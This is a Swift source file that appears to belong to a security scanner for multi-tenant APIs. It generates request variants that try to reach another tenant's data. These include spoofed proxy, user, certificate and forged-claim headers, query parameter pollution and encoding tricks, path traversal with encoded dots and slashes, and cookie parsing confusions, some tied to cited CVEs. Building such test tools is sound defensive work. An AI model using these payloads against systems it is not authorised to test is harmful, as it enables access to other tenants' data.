import Tokens

/// Attacks in fields that say who or where the client is.
extension Vector {
    private static func identity(
        _ name: String, _ title: String, precedents: String = "",
        _ fields: @escaping @Sendable (RequestDraft, Spoof) -> [(String, String)]
    ) -> Vector {
        Vector(.identity, name, title, precedents: precedents) { draft, spoof in
            for (name, value) in fields(draft, spoof) { draft.add(name, value) }
            return true
        }
    }

    static let identities: [Vector] = [
        identity("forwarded", "Forwarded names the tenant's host") {
            [("Forwarded", "for=127.0.0.1;host=\"\($1.named).\($0.authority)\";proto=https")]
        },
        identity(
            "forwarded-host", "X-Forwarded-Host and its kin", precedents: "CVE-2026-40575"
        ) {
            ["X-Forwarded-Host", "X-Host", "X-Original-Host", "X-Forwarded-Server"].map {
                [draft = $0, spoof = $1] in ($0, "\(spoof.named).\(draft.authority)")
            }
        },
        identity("client-address", "an address of this machine") { _, _ in
            ["X-Forwarded-For", "X-Real-IP", "X-Client-IP", "True-Client-IP"].map {
                ($0, "127.0.0.1")
            }
        },
        identity("user", "headers of proxies that log in for an API") { _, spoof in
            [
                "X-Forwarded-User", "X-Remote-User", "Remote-User", "X-Auth-Request-User",
                "X-Authenticated-Userid", "X-User-Id", "X-Consumer-Username",
                "X-Consumer-Custom-ID",
            ].map { ($0, spoof.named) }
        },
        identity("groups", "headers with groups and scopes") { _, spoof in
            ["X-Auth-Request-Groups", "X-Forwarded-Groups", "X-Auth-Groups"].map {
                ($0, spoof.named)
            }
        },
        identity("certificate", "X-Forwarded-Client-Cert and kin") { _, spoof in
            [
                ("X-Forwarded-Client-Cert", "URI=spiffe://\(spoof.named)/api;Subject=\"CN=x\""),
                ("X-SSL-Client-S-DN", "CN=\(spoof.named)"),
                ("X-Client-Verify", "SUCCESS"),
            ]
        },
        identity("payload", "verified claims as gateways pass them on") { _, spoof in
            let claims = #"{"\#(spoof.names.snake)":"\#(spoof.named.jsonEscaped)"}"#
            let text = TokenForging.text(of: [UInt8](claims.utf8).span)
            return [
                "X-JWT-Payload", "X-Apigateway-Api-Userinfo", "X-Endpoint-API-UserInfo",
                "X-Userinfo", "X-Amzn-Oidc-Data",
            ].map { ($0, String(decoding: text, as: UTF8.self)) }
        },
        identity("claims", "single claims as gateways pass them on") { _, spoof in
            [
                ("X-JWT-Claim-\(spoof.names.kebab)", spoof.named),
                ("X-Claim-\(spoof.names.kebab)", spoof.named),
                ("X-Token-\(spoof.names.kebab)", spoof.named),
            ]
        },
        identity("internal", "headers of internal callers") { _, spoof in
            [
                ("X-Internal-\(spoof.names.kebab)", spoof.named), ("X-Internal", "true"),
                ("X-Gateway-Auth", "true"), ("X-Impersonate-\(spoof.names.kebab)", spoof.named),
                ("X-On-Behalf-Of", spoof.named), ("Impersonate-User", spoof.named),
            ]
        },
        identity("rewrite", "another URL with the tenant in its query") { draft, spoof in
            let url = "\(draft.path)?\(spoof.names.snake)=\(spoof.named.percentEncoded)"
            return ["X-Original-URL", "X-Rewrite-URL", "X-Forwarded-Uri"].map { ($0, url) }
        },
        identity("baggage", "trace context with the tenant") { _, spoof in
            [
                ("baggage", "\(spoof.names.snake)=\(spoof.named.percentEncoded)"),
                ("tracestate", "rf=\(spoof.named.percentEncoded)"),
            ]
        },
        Vector(.identity, "host", "the tenant's own host name") { draft, spoof in
            draft.authority = "\(spoof.named).\(draft.authority)"
            return true
        },
        Vector(.identity, "host-twice", "a second Host line") { draft, spoof in
            draft.add("Host", "\(spoof.named).\(draft.authority)")
            return true
        },
        Vector(.identity, "absolute", "an absolute target for the tenant's host") {
            draft, spoof in
            draft.path = "http://\(spoof.named).\(draft.authority)\(draft.path)"
            return true
        },
    ]
}

/// Attacks in the target.
extension Vector {
    private static func query(
        _ name: String, _ title: String, precedents: String = "",
        _ text: @escaping @Sendable (Spoof, String) -> String
    ) -> Vector {
        Vector(.query, name, title, precedents: precedents) { draft, spoof in
            draft.addQuery(text(spoof, spoof.named.percentEncoded))
            return true
        }
    }

    static let queries: [Vector] = queryNames + queryForms

    private static let queryNames: [Vector] = [
        query("plain", "a parameter of the tenant's name") { "\($0.names.snake)=\($1)" },
        query("after-own", "the own tenant, then the other") {
            "\($0.names.snake)=\($0.own.percentEncoded)&\($0.names.snake)=\($1)"
        },
        query("before-own", "the other tenant, then the own") {
            "\($0.names.snake)=\($1)&\($0.names.snake)=\($0.own.percentEncoded)"
        },
        query("camel", "camel case") { "\($0.names.camel)=\($1)" },
        query("kebab", "hyphens") { "\($0.names.kebab)=\($1)" },
        query("upper", "upper case") { "\($0.names.snake.uppercased())=\($1)" },
        query("dots", "dots") { "\($0.names.words.joined(separator: "."))=\($1)" },
        query("header-name", "the header's name") { "\($0.names.header)=\($1)" },
        query("encoded", "its first letter encoded") { "\($0.names.encodedFirst)=\($1)" },
        query("encoded-all", "every letter encoded") { "\($0.names.encodedAll)=\($1)" },
        query("encoded-underscore", "its underscores encoded") {
            "\($0.names.words.joined(separator: "%5f"))=\($1)"
        },
        query("encoded-twice", "its first letter encoded twice") {
            "%25\($0.names.encodedFirst.dropFirst())=\($1)"
        },
        query("encoded-unicode", "its first letter as %u0074") {
            "%u\($0.names.escapedFirst.dropFirst(2))=\($1)"
        },
        query("aliases", "all usual names of the concept") { spoof, value in
            spoof.aliases.map { "\($0)=\(value)" }.joined(separator: "&")
        },
    ]

    private static let queryForms: [Vector] = [
        query("array", "an array") { "\($0.names.snake)[]=\($1)" },
        query("array-encoded", "an array, encoded") { "\($0.names.snake)%5B%5D=\($1)" },
        query("array-place", "an element of an array") { "\($0.names.snake)[0]=\($1)" },
        query("operator", "an operator of a query language") {
            "\($0.names.snake)[$eq]=\($1)&\($0.names.snake)__in=\($1)"
        },
        query("operator-not", "anything but the own tenant") { spoof, _ in
            "\(spoof.names.snake)[$ne]=\(spoof.own.percentEncoded)"
        },
        query("nested", "inside a filter") { "filter[\($0.names.snake)]=\($1)" },
        query("nested-deep", "deep inside a filter") { "a[b][\($0.names.snake)]=\($1)" },
        query("brackets-first", "brackets around the whole name") {
            "[\($0.names.snake)]=\($1)"
        },
        query("semicolon", "behind a semicolon", precedents: "CVE-2021-23336") {
            "a=1;\($0.names.snake)=\($1)"
        },
        query("empty-pairs", "between empty pairs") { "&&\($0.names.snake)=\($1)&&" },
        query("two-equals", "two equals signs") { "\($0.names.snake)==\($1)" },
        query("space", "a space in front") { "+\($0.names.snake)=\($1)" },
        query("nul", "a NUL behind the name") { "\($0.names.snake)%00=\($1)" },
        query("line-end", "a line end behind the name") { "\($0.names.snake)%0d%0a=\($1)" },
        query(
            "fragment", "behind a fragment's mark",
            precedents: "CVE-2021-32779 CVE-2023-45539"
        ) { "a=1#&\($0.names.snake)=\($1)" },
        query("question", "behind a second question mark") { "a=1?\($0.names.snake)=\($1)" },
        query("encoded-ampersand", "behind an encoded ampersand") {
            "a=1%26\($0.names.snake)=\($1)"
        },
        query("json", "a filter in JSON") { spoof, _ in
            let filter = #"{"\#(spoof.names.snake)":"\#(spoof.named.jsonEscaped)"}"#
            return "filter=\(filter.percentEncoded)&where=\(filter.percentEncoded)"
        },
        query("many", "as the last of 300 parameters") {
            (0..<300).map { "p\($0)=1" }.joined(separator: "&") + "&\($0.names.snake)=\($1)"
        },
    ]

    private static func path(
        _ name: String, _ title: String, precedents: String = "",
        _ change: @escaping @Sendable (String, Spoof) -> String?
    ) -> Vector {
        Vector(.path, name, title, precedents: precedents) { draft, spoof in
            guard let path = change(draft.path, spoof) else { return false }
            draft.path = path
            return true
        }
    }

    /// The path with the segment that is the own tenant's name written anew.
    private static func replacing(
        _ path: String, _ spoof: Spoof, _ text: String
    ) -> String? {
        var segments = path.split(separator: "/", omittingEmptySubsequences: false)
            .map(String.init)
        guard let index = segments.firstIndex(of: spoof.own.percentEncoded) else { return nil }
        segments[index] = text
        return segments.joined(separator: "/")
    }

    static let paths: [Vector] = [
        path("segment", "the tenant's segment") {
            replacing($0, $1, $1.named.percentEncoded)
        },
        path("dots", "behind dot segments") {
            replacing($0, $1, "\($1.own.percentEncoded)/../\($1.named.percentEncoded)")
        },
        path("dots-encoded", "behind encoded dots", precedents: "CVE-2021-29492") {
            replacing($0, $1, "\($1.own.percentEncoded)/%2e%2e/\($1.named.percentEncoded)")
        },
        path("slash-encoded", "behind encoded slashes", precedents: "CVE-2019-9901") {
            replacing($0, $1, "\($1.own.percentEncoded)%2f..%2f\($1.named.percentEncoded)")
        },
        path("dots-encoded-twice", "behind dots encoded twice") {
            replacing($0, $1, "\($1.own.percentEncoded)/%252e%252e/\($1.named.percentEncoded)")
        },
        path("backslash", "behind a backslash") {
            replacing($0, $1, "\($1.own.percentEncoded)\\..\\\($1.named.percentEncoded)")
        },
        path("matrix", "a matrix parameter at the end") {
            "\($0);\($1.names.snake)=\($1.named.percentEncoded)"
        },
        path("matrix-first", "a matrix parameter of the first segment") {
            let rest = $0.dropFirst()
            guard let slash = rest.firstIndex(of: "/") else { return nil }
            return
                "/\(rest[..<slash]);\($1.names.snake)=\($1.named.percentEncoded)\(rest[slash...])"
        },
        path("prefix", "the tenant as first segment") { "/\($1.named.percentEncoded)\($0)" },
        path("prefix-named", "the tenant under the concept's name") {
            "/\($1.names.words.first ?? "tenant")s/\($1.named.percentEncoded)\($0)"
        },
        path("slashes", "behind two slashes") { "//\($1.named.percentEncoded)/..\($0)" },
    ]

    private static func cookie(
        _ name: String, _ title: String, _ lines: @escaping @Sendable (Spoof) -> [String]
    ) -> Vector {
        Vector(.cookie, name, title) { draft, spoof in
            for line in lines(spoof) { draft.add("Cookie", line) }
            return true
        }
    }

    static let cookies: [Vector] = [
        cookie("plain", "a cookie of the tenant's name") { ["\($0.names.snake)=\($0.named)"] },
        cookie("header-name", "the header's name") { ["\($0.names.header)=\($0.named)"] },
        cookie("camel", "camel case") { ["\($0.names.camel)=\($0.named)"] },
        cookie("encoded", "its first letter encoded") {
            ["\($0.names.encodedFirst)=\($0.named)"]
        },
        cookie("quoted", "a quoted value") { ["\($0.names.snake)=\"\($0.named)\""] },
        cookie("spaces", "spaces around the equals sign") {
            ["a=1;  \($0.names.snake) = \($0.named)"]
        },
        cookie("after-own", "the own tenant, then the other") {
            ["\($0.names.snake)=\($0.own); \($0.names.snake)=\($0.named)"]
        },
        cookie("two-lines", "in a second line") {
            ["a=1; \($0.names.snake)=\($0.own)", "\($0.names.snake)=\($0.named)"]
        },
        cookie("nameless", "behind a pair without a name") {
            ["=\($0.names.snake)=\($0.named); \($0.names.snake)=\($0.named)"]
        },
        cookie("comma", "behind a comma") { ["a=1, \($0.names.snake)=\($0.named)"] },
        cookie("version", "behind $Version") {
            ["$Version=1; \($0.names.snake)=\"\($0.named)\"; $Path=\"/\""]
        },
        cookie("aliases", "all usual names of the concept") { spoof in
            [spoof.aliases.map { "\($0)=\(spoof.named)" }.joined(separator: "; ")]
        },
    ]
}
